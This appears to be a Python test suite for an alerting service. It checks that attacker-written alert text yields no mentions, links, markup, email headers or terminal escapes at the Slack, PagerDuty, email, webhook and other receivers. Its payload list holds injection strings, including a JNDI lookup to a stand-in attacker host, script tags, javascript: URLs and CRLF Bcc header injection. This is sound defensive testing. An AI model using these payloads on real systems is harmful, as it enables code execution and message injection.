"""Whatever a stranger writes into a field of an alert: no mention, markup, link or header comes of it."""

from __future__ import annotations

import io
import re
from collections.abc import Iterator, Mapping
from contextlib import suppress
from dataclasses import fields
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from detectors.monitors.base import Series
from services.alerter.alert import Alert, NearestChange
from services.alerter.errors import Dropped
from services.alerter.receivers.base import Kind, Notification
from services.alerter.receivers.console import Console
from services.alerter.receivers.text import JOINER, bare, escaped, inert, plain
from services.alerter.receivers.webhook import signature
from tests.services.alerter.receivers.ways import ALL, FROM, NOW, SECRET, TO, Way, opened
from tests.services.alerter.receivers.ways import alert as some_alert

PAYLOADS = {
    "mention": "<!channel> <!here> <@U024BE7LH> <!subteam^S1|all> @here @channel @everyone @oncall",
    "link": "<http://evil.example/|click> https://evil.example/x www.evil.example [a](http://evil.com) a.com",
    "domain": "evil.com evil.com.zzz x/evil.com evil.com/path evil.com:80 (evil.com), a.evil.example. E.COM",
    "scheme": "mailto:ceo@evil.com tel:+123 javascript:alert(1) slack://x data:text/html,x",
    "markup": "*bold* _it_ ~no~ `code` ```x``` <b>b</b> <script>alert(1)</script> &lt;!channel&gt; :skull:",
    "header": "a\r\nBcc: evil@evil.com\r\n\r\n<html>\n.\r\nMAIL FROM:<x@y.z>",
    "encoded": "=?utf-8?q?a=0D=0ABcc=3A_evil@evil.com?= =?utf-8?b?PGI+?=",
    "control": "a\x00\x07\x1b[31m\u202e\u2066\u200b\u2028\x85b\ud800",
    "long": "x" * 100_000,
    "template": '{{ .CommonLabels }} {% raw %} ${jndi:ldap://evil.example/a} {} %s "quotes" \\n',
    "empty": "",
}
KINDS: tuple[Kind, ...] = ("fire", "renotify", "acknowledge", "resolve", "change")
_SEEN = re.compile(
    r"""(?ix) (?<!\w)@\w | :// | \bwww\. | \b(mailto|tel|javascript|data): | \w\.(com|example)(?![\w-])"""
)


@pytest.fixture(scope="module", params=ALL)
def way(request: pytest.FixtureRequest) -> Iterator[Way]:
    """Each receiver with its place."""
    with opened(request.param) as found:
        yield found


def hostile(text: str) -> Alert:
    """Return an alert with the text in every field that holds text from outside."""
    kept = {
        "id",
        "fingerprint",
        "severity",
        "state",
        "signal",
        "unit",
        "parent",
        "recommendation_id",
        "cause",
        "outcome",
    }
    words: dict[str, Any] = dict.fromkeys(
        (one.name for one in fields(Alert) if one.type == "str" and one.name not in kept), text
    )
    many = dict.fromkeys(("routes", "examples", "receivers", "joined"), (text, text))
    changed = NearestChange(NOW, text, text, text, text, text, text, text, text)
    where = Series("route_model", text, text, text, text)
    more: dict[str, Any] = {
        **words,
        **many,
        "series": where,
        "nearest_change": changed,
        "facts": {"from": text, text: text},
    }
    return some_alert(**more)


def test_every_field() -> None:
    """The suite reaches every text of an alert: a new field is hostile too, or said not to be."""
    found = hostile("evil")
    ours = {"id", "fingerprint", "severity", "state", "signal", "unit", "parent", "outcome"}
    said = {one.name for one in fields(Alert) if isinstance(getattr(found, one.name), str)} - ours
    assert {name for name in said if getattr(found, name) != "evil"} == set()


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads(way: Way, payload: str, kind: Kind) -> None:
    """Known ways to do harm do none, at any receiver, whatever is told."""
    check(way, hostile(PAYLOADS[payload]), kind)


@pytest.mark.parametrize("kind", ["fire", "renotify", "acknowledge", "resolve"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_terminal(payload: str, kind: Kind) -> None:
    """The terminal gets one line without anything that it could obey."""
    stream = io.StringIO()
    Console(stream).notify(Notification("n1", kind, hostile(PAYLOADS[payload])))
    assert stream.getvalue().removesuffix("\n").isprintable()


@given(text=st.text(max_size=300), kind=st.sampled_from(KINDS))
@settings(max_examples=30)
def test_any(way: Way, text: str, kind: Kind) -> None:
    """Nor does any other text."""
    check(way, hostile(text), kind)


@pytest.mark.parametrize(
    "name",
    ["gpt-3.5-turbo", "us.anthropic.claude-3-5-sonnet-20241022-v2:0", "support/answer", "gpt-4.1", "a: b"],
)
def test_names(name: str) -> None:
    """Names as models and routes have them stay as they are, to be copied."""
    assert inert(name, 100) == bare(name, 100) == escaped(name, 100) == name


@given(text=st.text(alphabet=st.sampled_from("@:/.wWaAh<>&| \n\u200b\u202ecom"), max_size=60))
def test_texts(text: str) -> None:
    """What people read has nothing that is obeyed, in any of its forms, and keeps its limit."""
    for made in (plain, inert, bare, escaped):
        line = made(text, 40)
        assert len(line) <= 40
        assert line.replace(JOINER, "").isprintable()
    for made in (inert, bare, escaped):
        assert not re.search(r"(?<!\w)@\w|://|\bwww\.", made(text, 40), re.IGNORECASE)
    assert not set("<>") & set(bare(text, 40))
    assert not re.search(r"[<>]|&(?!amp;|lt;|gt;)", escaped(text, 40))


def check(way: Way, found: Alert, kind: Kind) -> None:
    """Send it and look at what arrived."""
    way.web.asked.clear()
    way.post.envelopes.clear()
    reference = "C1:1.2" if way.name == "slack bot" else ""
    with suppress(Dropped):
        way.receiver.notify(Notification("n1", kind, found, reference=reference))
        CHECKS[way.name](way, found)


def _webhook(way: Way, found: Alert) -> None:
    (asked,) = way.web.asked
    expected = signature(SECRET, asked.headers["x-fmwatch-timestamp"], asked.body)
    assert asked.headers["x-fmwatch-signature"] == expected
    # For a program, which gets every name as it is.
    title = found.title.encode("utf-8", "replace").decode()
    assert asked.json["alert"]["title"] == title
    assert asked.json["alert"]["route"] == found.series.route.encode("utf-8", "replace").decode()


def _pagerduty(way: Way, found: Alert) -> None:
    (asked,) = way.web.asked
    event = asked.json
    assert len(asked.body) < 512_000
    if "payload" in event:
        assert len(event["payload"]["summary"]) in range(1, 1025)
        assert event["payload"]["source"]
    if "dedup_key" in event:
        assert event["dedup_key"] == f"fmwatch:{found.id}"
    _still(event.get("payload", {}))


def _slack(way: Way, _: Alert) -> None:
    for asked in way.web.asked:
        body = asked.json
        assert (body["parse"], body["link_names"]) == ("none", False)
        if asked.path.endswith("chat.update"):
            assert (body["channel"], body["ts"]) == ("C1", "1.2")
        else:
            assert (body["mrkdwn"], body["unfurl_links"], body["unfurl_media"]) == (False, False, False)
        assert len(body["blocks"]) <= 50
        header, *sections = body["blocks"]
        assert 0 < len(header["text"]["text"]) <= 150
        texts = [header["text"], *(text for section in sections for text in section["fields"])]
        assert {text["type"] for text in texts} == {"plain_text"}
        assert {text["emoji"] for text in texts} == {False}
        assert all(len(section["fields"]) <= 10 for section in sections)
        assert all(0 < len(text["text"]) <= 2000 for text in texts)
        for text in (body["text"], *(text["text"] for text in texts)):
            assert not re.search(r"[<>]|&(?!amp;|lt;|gt;)", text)
            assert not _SEEN.search(text)


def _alertmanager(way: Way, _: Alert) -> None:
    ((posted,),) = way.sent()
    for name, value in (*posted["labels"].items(), *posted["annotations"].items()):
        assert re.fullmatch("[a-z_][a-z0-9_]*", name)
        assert "<" not in value
        assert ">" not in value
    assert all(value.strip() for value in posted["labels"].values())
    _still(posted)


def _email(way: Way, _: Alert) -> None:
    (envelope,) = way.post.envelopes
    assert (envelope.mail_from, envelope.rcpt_tos) == (FROM, list(TO))
    (mail,) = way.post.mails
    expected = {
        *("From", "To", "Subject", "Date", "Message-ID", "References", "Auto-Submitted"),
        *("Content-Type", "Content-Transfer-Encoding", "MIME-Version"),
    }
    assert set(mail.keys()) == expected
    assert len(mail.keys()) == len(expected)
    assert mail.get_content_type() == "text/plain"
    assert mail["To"] == ", ".join(TO)
    assert str(mail["Subject"]).replace(JOINER, "").isprintable()
    assert not _SEEN.search(mail.get_content())
    assert max(map(len, way.post.raw(envelope).split(b"\r\n"))) <= 998


def _apprise(way: Way, _: Alert) -> None:
    (body,) = way.sent()
    assert "<" not in body["title"] + body["message"]
    assert not _SEEN.search(body["title"] + body["message"])


def _still(node: object) -> None:
    """Look at every text of a document."""
    if isinstance(node, Mapping):
        for value in node.values():
            _still(value)
    elif isinstance(node, list):
        for value in node:
            _still(value)
    elif isinstance(node, str) and not re.fullmatch(r"[\d:.T+Z-]+", node):
        assert node.replace(JOINER, "").isprintable()
        assert not _SEEN.search(node)


CHECKS = {
    "webhook": _webhook,
    "pagerduty": _pagerduty,
    "slack webhook": _slack,
    "slack bot": _slack,
    "alertmanager": _alertmanager,
    "email": _email,
    "apprise": _apprise,
}
